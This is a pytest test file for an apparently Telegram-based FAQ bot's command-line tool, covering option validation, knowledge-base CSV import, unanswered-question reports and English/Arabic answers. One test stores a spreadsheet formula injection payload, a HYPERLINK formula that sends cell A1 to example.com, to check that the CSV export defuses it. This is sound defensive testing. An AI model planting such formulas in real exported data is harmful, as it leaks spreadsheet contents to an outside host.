@pytest.mark.parametrize("secret", ["", "two words", "x" * 257, "sécret", "a/b"])
def test_a_secret_token_telegram_would_refuse_is_refused_unshown(run, secret: str) -> None:
    result = run("run", "--webhook-url", "https://bot.example.org/hook", "--secret-token", secret)
    assert result.exit_code == 2
    assert result.output.splitlines()[-1] == (
        "Error: Invalid value for '--secret-token': it must be 1 to 256 characters, each a "
        "letter A-Z or a-z, a digit, _ or - (Telegram's rule).")


@pytest.mark.parametrize(("given", "named"), [
    (["--port", "9000"], "--port applies"),
    (["--port", "8443"], "--port applies"),
    (["--listen", "127.0.0.1"], "--listen applies"),
    (["--secret-token", "s3cret"], "--secret-token applies"),
    (["--listen", "::1", "--port", "9000"], "--listen and --port apply"),
])
def test_webhook_options_without_a_webhook_are_refused(run, given: list[str],
                                                       named: str) -> None:
    """They were ignored: the bot polled."""
    result = run("run", *given)
    assert result.exit_code == 2
    assert result.output.splitlines()[-1] == (
        f"Error: {named} only to a webhook: give --webhook-url too, or leave it out to poll.")


def test_a_threshold_that_crosses_the_other_says_to_change_that_one_too(run) -> None:
    run("kb", "thresholds", "--db", "kb.db")
    refused = run("kb", "thresholds", "--db", "kb.db", "--answer", "0.1")
    assert refused.exit_code == 1
    assert refused.output == (
        "Error: thresholds must satisfy 0 <= suggest <= answer <= 1 and 0 <= margin < 1, "
        "and these would be answer 0.1, suggest 0.62, margin 0.05: lower --suggest too, to at "
        "most 0.1 (it stays 0.62 otherwise).\n")
    refused = run("kb", "thresholds", "--db", "kb.db", "--reset", "--answer", "0.2")
    assert refused.output.endswith(": lower --suggest too, to at most 0.2 (it stays 0.62 "
                                   "otherwise).\n")


@pytest.mark.parametrize("value", ["nan", "NaN", "-nan"])
def test_a_threshold_that_is_not_a_number_is_refused(run, value: str) -> None:
    """nan passed the range (it compares false with both ends) and was shown as a bound."""
    run("kb", "thresholds", "--db", "kb.db")
    refused = run("kb", "thresholds", "--db", "kb.db", "--answer", value)
    assert refused.exit_code == 2
    assert refused.output.endswith(
        f"Error: Invalid value for '--answer': {float(value)} is not a number between 0 and "
        "1.\n")
    assert run("kb", "thresholds", "--db", "kb.db").output == (
        "answer 0.640, suggest 0.620, margin 0.050\n")


def test_skipped_duplicates_are_counted_in_words(run, tmp_path: Path) -> None:
    (tmp_path / "twice.csv").write_text("intent,text\ncard,where is my card\n"
                                        "card,where is my card\n", encoding="utf-8")
    assert run("kb", "import", "twice.csv", "--db", "kb.db", "--skip-duplicates").output == (
        "1 new entry, 2 new phrasings (1 of them intents' names), 1 duplicate row skipped\n")


def test_a_threshold_of_minus_zero_is_zero(run) -> None:
    run("kb", "thresholds", "--db", "kb.db")
    assert run("kb", "thresholds", "--db", "kb.db", "--margin", "-0").output == (
        "answer 0.640, suggest 0.620, margin 0.000\n")
    assert run("kb", "thresholds", "--db", "kb.db", "--suggest", "-0.0").output == (
        "answer 0.640, suggest 0.000, margin 0.000\n")


def test_an_encoder_switch_that_is_neither_on_nor_off_is_refused_at_start(
        run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """It read as on: a typo for off (`of`) went on using the encoders."""
    monkeypatch.setenv("FAQBOT_ENCODER", "of")
    result = run("kb", "thresholds", "--db", "kb.db")
    assert result.exit_code == 1
    assert result.output == (
        "Error: FAQBOT_ENCODER must be on or off (or 1/0, yes/no, true/false), got 'of'.\n")
    assert list(tmp_path.iterdir()) == []


def _asked(db_path: Path, *questions: tuple[str, str, str], days_ago: int = 0) -> None:
    """Log questions (text, lang, outcome) as the bot does, `days_ago` days back."""
    from datetime import UTC, datetime, timedelta

    stamp = (datetime.now(UTC) - timedelta(days=days_ago)).isoformat(timespec="seconds")
    db = connect(db_path)
    db["questions"].insert_all(
        {"asked_at": stamp, "chat_type": "private", "lang": lang, "text": text,
         "outcome": outcome, "entry_id": None, "score": 0.1}
        for text, lang, outcome in questions)


def test_unanswered_lists_what_the_knowledge_still_does_not_answer(
        run, fresh_db_path: Path) -> None:
    from datetime import UTC, datetime

    _asked(fresh_db_path,
           ("the juice the miners want for AI", "en", "fallback"),
           ("The juice the miners  want for AI?", "en", "fallback"),
           ("ما سعر الذهب اليوم؟", "ar", "fallback"),
           ("when was the halving?", "en", "fallback"),  # the knowledge answers it now
           ("how much new power do they plan", "en", "answer"))
    _asked(fresh_db_path, ("who won the match", "en", "fallback"), days_ago=40)
    answerer = Answerer(connect(fresh_db_path))
    juice, gold = (answerer.answer(text, Asker()).guess for text in (
        "the juice the miners want for AI", "ما سعر الذهب اليوم؟"))
    today = datetime.now(UTC).date().isoformat()
    result = run("kb", "unanswered", "--db", str(fresh_db_path))
    assert result.exit_code == 0
    assert result.stdout.splitlines() == [
        "2 questions not answered in the last 30 days (1 more is answered now):",
        f"    2×  {today}  en  The juice the miners want for AI?  (closest: {juice})",
        f"    1×  {today}  ar  ما سعر الذهب اليوم؟" + (f"  (closest: {gold})" if gold else ""),
    ]
    longer = run("kb", "unanswered", "--db", str(fresh_db_path), "--days", "45", "--limit", "1")
    assert longer.stdout.splitlines()[0] == (
        "3 questions not answered in the last 45 days (1 more is answered now), "
        "the 1 most asked:")
    assert len(longer.stdout.splitlines()) == 2


def test_unanswered_questions_go_back_through_an_import(run, fresh_db_path: Path,
                                                        tmp_path: Path) -> None:
    """The admin's loop: list as CSV, fill in the intents, import, and the list is empty."""
    _asked(fresh_db_path, ("the juice the miners want for AI", "en", "fallback"))
    listed = run("kb", "unanswered", "--db", str(fresh_db_path), "--csv").stdout
    header, row = listed.splitlines()
    assert header == "intent,text,lang,asked,closest"
    assert row.startswith(",the juice the miners want for AI,en,1,")
    refused = tmp_path / "refused.csv"
    refused.write_text(listed, encoding="utf-8")
    assert run("kb", "import", str(refused), "--db", str(fresh_db_path)).exit_code == 1
    filled = tmp_path / "filled.csv"
    filled.write_text(header + "\nplanned-ai-power" + row, encoding="utf-8")
    assert run("kb", "import", str(filled), "--db", str(fresh_db_path)).exit_code == 0
    assert run("kb", "unanswered", "--db", str(fresh_db_path)).stdout == (
        "0 questions not answered in the last 30 days (1 more is answered now).\n")
    assert "30 gigawatts" in run("ask", "--db", str(fresh_db_path),
                                 "the juice the miners want for AI").stdout


def test_unanswered_csv_gives_a_spreadsheet_questions_as_text(run, fresh_db_path: Path,
                                                               tmp_path: Path) -> None:
    """Anyone can ask the bot a formula: in the CSV it is text a spreadsheet will not run,
    and it imports back as it was asked."""
    formula = '=HYPERLINK("http://example.com/?"&A1,"who won the match")'
    _asked(fresh_db_path, (formula, "en", "fallback"), ("@everyone who won the match", "en",
                                                        "fallback"))
    listed = run("kb", "unanswered", "--db", str(fresh_db_path), "--csv").stdout
    header, *rows = listed.splitlines()
    assert sorted(row.split(",1,")[0] for row in rows) == [
        ',"\'=HYPERLINK(""http://example.com/?""&A1,""who won the match"")",en',
        ",'@everyone who won the match,en",
    ]
    filled = tmp_path / "filled.csv"
    filled.write_text("\n".join([header, *("planned-ai-power" + row for row in rows)]) + "\n",
                      encoding="utf-8")
    assert run("kb", "import", str(filled), "--db", str(fresh_db_path)).exit_code == 0
    with closing(sqlite3.connect(fresh_db_path)) as db:
        imported = {text for (text,) in db.execute(
            "SELECT text FROM phrasings WHERE entry_id = 'planned-ai-power'")}
    assert {formula, "@everyone who won the match"} <= imported
    assert not any(text.startswith("'") for text in imported)


def test_unanswered_keeps_questions_whose_entry_has_no_answer_yet(run, fresh_db_path: Path,
                                                                  tmp_path: Path) -> None:
    """An entry imported from the list, intent filled in but no answer written, tells the
    asker it has none: those questions are not answered yet, and stay on the list."""
    _asked(fresh_db_path, ("what is the price of gold?", "en", "fallback"))
    filled = tmp_path / "filled.csv"
    filled.write_text("intent,text\ngold-price,what is the price of gold?\n", encoding="utf-8")
    assert run("kb", "import", str(filled), "--db", str(fresh_db_path)).exit_code == 0
    assert run("ask", "--db", str(fresh_db_path), "what is the price of gold?").stdout == (
        "I know this question, but no answer has been written for it yet.\n")
    listed = run("kb", "unanswered", "--db", str(fresh_db_path)).stdout.splitlines()
    assert listed[0] == "1 question not answered in the last 30 days:"
    assert listed[1].endswith("en  what is the price of gold?  (closest: gold-price)")
    answer = tmp_path / "answer.csv"
    answer.write_text("intent,text,answer\ngold-price,what is the price of gold?,"
                      "I only know the story of the Bitcoin miners.\n", encoding="utf-8")
    assert run("kb", "import", str(answer), "--db", str(fresh_db_path)).exit_code == 0
    assert run("kb", "unanswered", "--db", str(fresh_db_path)).stdout == (
        "0 questions not answered in the last 30 days (1 more is answered now).\n")


def test_an_answer_written_in_the_other_language_reads_as_that_language(
        run, fresh_db_path: Path, tmp_path: Path) -> None:
    """Its number was formatted for the asker's language: "30\u200f غيغا واط" inside
    English words, "30 gigawatts" inside Arabic ones."""
    both = tmp_path / "both.csv"
    both.write_text(
        "intent,text,answer\n"
        "foo-entry,what is foo exactly,Foo is about {planned-ai-power} of power.\n"
        "foo-entry,ما هو الفو بالضبط,\n"
        "bar-entry,ما هو البار بالضبط,البار هو {planned-ai-power} تقريبا\n"
        "bar-entry,what is bar exactly,\n", encoding="utf-8")
    assert run("kb", "import", str(both), "--db", str(fresh_db_path)).exit_code == 0
    assert run("ask", "--db", str(fresh_db_path), "ما هو الفو بالضبط").stdout == (
        "Foo is about 30 gigawatts of power.\n")
    assert run("ask", "--db", str(fresh_db_path), "what is bar exactly").stdout == (
        "\u200fالبار هو 30 غيغا واط تقريبا\n")


def test_unanswered_on_a_terminal_shows_how_far_it_is(fresh_db_path: Path,
                                                      monkeypatch) -> None:
    """Each question is asked again, minutes for thousands: a terminal sees a bar."""
    import io
    import sys

    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    _asked(fresh_db_path, ("the juice the miners want for AI", "en", "fallback"),
           ("ما سعر الذهب اليوم؟", "ar", "fallback"), ("when was the halving?", "en", "fallback"))
    monkeypatch.setattr(sys, "stdout", io.StringIO())
    monkeypatch.setattr(sys, "stderr", Terminal())
    cli.main(["kb", "unanswered", "--db", str(fresh_db_path)], standalone_mode=False)
    assert sys.stdout.getvalue().startswith(
        "2 questions not answered in the last 30 days (1 more is answered now):\n")
    shown = sys.stderr.getvalue()
    assert "asking again  [" in shown
    assert "asking again  [" in shown
    assert "100%" in shown


@pytest.mark.parametrize("days", ["0", "-1", "36526", "1000000000", "week"])
def test_unanswered_takes_days_it_can_count_back(run, fresh_db_path: Path, days: str) -> None:
    """A billion days back was an OverflowError traceback."""
    result = run("kb", "unanswered", "--db", str(fresh_db_path), "--days", days)
    assert result.exit_code == 2
    assert "Invalid value for '--days'" in result.output


def test_unanswered_needs_the_bots_database(run) -> None:
    result = run("kb", "unanswered", "--db", "typo.db")
    assert result.exit_code == 1
    assert "typo.db does not exist, so no question has been asked of it" in result.output
    assert not Path("typo.db").exists()
